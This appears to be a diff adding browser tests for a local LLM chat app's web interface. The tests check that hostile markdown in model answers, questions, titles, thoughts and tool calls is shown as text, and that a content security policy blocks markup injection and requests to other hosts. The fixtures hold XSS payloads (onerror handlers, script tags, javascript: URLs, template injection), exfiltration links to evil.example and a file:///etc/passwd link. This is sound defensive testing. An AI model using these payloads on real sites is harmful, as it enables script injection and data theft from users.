@@ -1,0 +1,150 @@
+"""What a model, a page or a title says is shown, never obeyed: no request, no markup, no script."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.browser.house import MODEL, House, LedOllama
+from tests.browser.steps import ask, choose_model, last_turn, wait_for_answer
+
+EVIL = "https://evil.example/collect?secret=1"
+HOSTILE = f"""\
+# Results ![tracker]({EVIL})
+
+<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>
+<iframe src="{EVIL}"></iframe><style>@import url({EVIL});</style>
+<svg onload="window.hacked = 1"><a href="javascript:window.hacked=1">x</a></svg>
+
+[click me](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
+[plain link]({EVIL}) <{EVIL}> {EVIL} [![image link]({EVIL})]({EVIL}) ![ref][r]
+
+[r]: {EVIL}
+[![both](//evil.example/a.png)](//evil.example/b) ![file](file:///etc/passwd) [blob](blob:{EVIL})
+
+| a | ![cell]({EVIL}) |
+|---|---|
+| <b onclick="window.hacked=1">b</b> | [x](vbscript:msgbox) |
+
+```html
+<script>window.hacked = 1</script>
+```
+
+1. <input autofocus onfocus="window.hacked=1">
+   > <details open ontoggle="window.hacked=1"><summary>s</summary></details>
+
+Cited [1] and [99] and 【7†source】. \u202eevil\u202c
+<base href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}"><form action="{EVIL}">
+"""
+FORBIDDEN = "img, iframe, script, style, object, embed, form, input, base, meta, svg a, [onload], [style]"
+PAYLOADS = (
+    '<img src=x onerror="window.hacked=1">',
+    '"><script>window.hacked=1</script>',
+    "javascript:window.hacked=1",
+    "{{constructor.constructor('window.hacked=1')()}}",
+    "\u202e<b>txt.exe",
+)
+
+
+@pytest.fixture
+def chatting(page: Page) -> Iterator[Page]:
+    """A page with the local model chosen; afterwards nothing of an answer may have run."""
+    choose_model(page, f"ollama:{MODEL}")
+    yield page
+    assert page.evaluate("window.hacked") is None
+
+
+def touch_everything(page: Page) -> None:
+    """Hovers over, focuses and clicks whatever the answer put on the page."""
+    page.evaluate(
+        """() => {
+          for (const node of document.querySelectorAll(".answer *")) {
+            for (const kind of ["mouseover", "mouseenter", "focus", "toggle", "pointerenter"])
+              node.dispatchEvent(new Event(kind, { bubbles: true }));
+            node.focus?.();
+            if (!node.closest("a[target=_blank]")) node.click?.();
+          }
+        }"""
+    )
+
+
+@pytest.mark.parametrize("size", [1, 7, 64, 100_000])
+def test_hostile_markdown_loads_and_runs_nothing(
+    chatting: Page, ollama: LedOllama, size: int
+) -> None:
+    """However the stream is cut: no request to anybody, no element that could make one."""
+    ollama.script = lambda messages: [HOSTILE[i : i + size] for i in range(0, len(HOSTILE), size)]
+    ask(chatting, "Show me")
+    turn = wait_for_answer(chatting)
+    answer = turn.locator(".answer")
+    expect(answer).to_contain_text("evil.example")
+    assert answer.locator(FORBIDDEN).count() == 0
+    assert answer.locator("a").count() == 0, "a link that is no source's"
+    expect(answer.locator("code").last).to_contain_text("<script>")
+    touch_everything(chatting)
+    assert not re.search(r"\d", "".join(answer.locator("a.chip").all_inner_texts()))
+
+
+def test_hostile_words_in_questions_and_titles_are_words(
+    chatting: Page, house: House, ollama: LedOllama
+) -> None:
+    """In the bubble, the heading, the list of chats and its buttons."""
+    ollama.script = lambda messages: ["Noted."]
+    for payload in PAYLOADS:
+        ask(chatting, payload)
+        expect(last_turn(chatting).locator(".bubble")).to_have_text(payload)
+        wait_for_answer(chatting)
+    chat = chatting.url.rpartition("/")[2]
+    for payload in PAYLOADS[:4]:
+        house.call("PATCH", f"/api/sessions/{chat}", {"title": payload})
+        chatting.reload()
+        expect(chatting.locator("#title")).to_have_text(payload)
+        expect(chatting.locator(f'.session[data-id="{chat}"] a')).to_have_text(payload)
+        assert chatting.locator("#sidebar").locator(FORBIDDEN.replace("input, ", "")).count() == 0
+
+
+def test_thoughts_and_tool_results_are_words_too(chatting: Page, ollama: LedOllama) -> None:
+    """The folded parts are no way in either."""
+    bad = {"function": {"name": "<img src=x onerror=window.hacked=1>", "arguments": {"a": HOSTILE}}}
+
+    def script(messages: list[dict[str, str]]) -> list[object]:
+        if messages[-1]["role"] == "tool":
+            return ["Done."]
+        return [{"thinking": HOSTILE}, {"tool_calls": [bad]}]
+
+    ollama.script = script
+    ask(chatting, "Think")
+    turn = wait_for_answer(chatting)
+    for summary in turn.locator("summary:visible").all():
+        summary.click()
+    expect(turn.locator(".thoughts-text")).to_contain_text("<script>")
+    assert turn.locator(FORBIDDEN).count() == 0
+    touch_everything(chatting)
+
+
+def test_the_browser_itself_would_refuse_markup_and_foreign_loads(
+    browser: Browser, house: House
+) -> None:
+    """The second lock: even code that tried could not parse markup or reach another host."""
+    page = browser.new_page()
+    page.goto(house.start_url)
+    tried, refused = page.evaluate(
+        """async () => {
+          const seen = [];
+          addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
+          const tried = [];
+          try { document.body["inner" + "HTML"] = "<b>x</b>"; } catch (e) { tried.push(e.name); }
+          try { await fetch("https://evil.example/"); } catch (e) { tried.push(e.name); }
+          const image = new Image();
+          const failed = new Promise((r) => (image.onerror = () => r("image")));
+          image.src = "https://evil.example/x.png";
+          tried.push(await failed);
+          return [tried, seen];
+        }"""
+    )
+    assert tried == ["TypeError", "TypeError", "image"]
+    assert {"require-trusted-types-for", "connect-src", "img-src"} <= set(refused)
+    page.context.close()
